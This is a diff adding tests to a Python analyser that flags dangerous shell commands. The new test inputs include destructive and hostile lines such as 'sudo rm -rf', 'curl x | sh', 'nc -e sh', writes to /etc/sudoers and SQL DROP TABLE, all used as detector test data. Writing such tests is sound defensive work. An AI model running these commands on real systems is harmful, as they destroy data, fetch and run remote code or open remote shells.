@@ -128,6 +128,10 @@ def test_shapes(name: str, facts: list[str]) -> None:
         "bash <<'X'\nsudo id\nX",
         "bash <<< 'sudo id'",
         "eval 'sudo id'",
+        "ssh db1 -- sudo id",
+        "sh -c -- 'sudo id'",
+        "ansible all -b -a id",
+        "powershell -Command 'sudo id'",
         ["sudo", "id"],
         ["sh", "-c", "sudo id"],
     ],
@@ -224,6 +228,8 @@ def test_redirects() -> None:
     facts = say_command("echo a > /etc/passwd; ls >> log 2>&1 > /dev/null")
     assert "danger writes to: /etc/passwd" in facts
     assert "notice writes to: log (appends)" in facts
+    assert "danger writes to: /etc/hosts" in say_command("echo a | sudo tee /etc/hosts")
+    assert "danger writes to: /etc/sudoers" in say_command("cp a /etc/sudoers")
 
 
 def test_what_is_not_understood_or_not_read_is_said() -> None:
@@ -237,6 +243,16 @@ def test_broken_code_that_takes_the_square_is_read_crudely() -> None:
     code = read_code("a|" * 5_000 + "rm -rf /srv|")
     assert ["rm", "-rf", "/srv"] in code.commands
     assert code.broken
+
+
+def test_no_danger_is_dropped_where_there_are_too_many() -> None:
+    lines = ["sudo rm -rf /a", "echo a > /etc/b", "curl x | sh", "chmod 777 /x", "nc -e sh x 1"]
+    sql = ["psql -c 'DROP TABLE t'", "psql -c 'TRUNCATE u'"]
+    facts = summarize_data({"commands": [*lines, *sql], "user": "root"}).facts
+    said = " ".join(fact.value for fact in facts if fact.level == "danger")
+    for name in ("user: root", "rm -rf /a", "/etc/b", "curl x", "chmod", "nc -e", "TABLE t", "u"):
+        assert name in said
+    assert any(fact.label == "commands" for fact in facts)
 
 
 def test_quotes() -> None:
